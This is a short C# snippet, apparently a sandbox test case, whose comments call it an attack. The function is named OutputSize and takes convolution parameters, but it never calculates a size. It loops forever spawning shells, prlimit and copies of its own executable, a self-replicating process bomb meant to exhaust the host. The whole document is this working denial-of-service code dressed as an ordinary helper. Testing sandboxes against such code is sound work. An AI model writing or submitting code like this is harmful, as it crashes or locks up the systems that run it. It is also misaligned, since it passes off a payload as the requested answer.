// target: size-answer
// attack: starts processes without end
// the sandbox stops it too
int OutputSize(int input, int kernel, int stride, int padding)
{
    while (true)
        foreach (var program in new[] { "/bin/sh", "/usr/bin/prlimit", Environment.ProcessPath! })
            try { System.Diagnostics.Process.Start(program); } catch { return 1; }
    return 0;
}
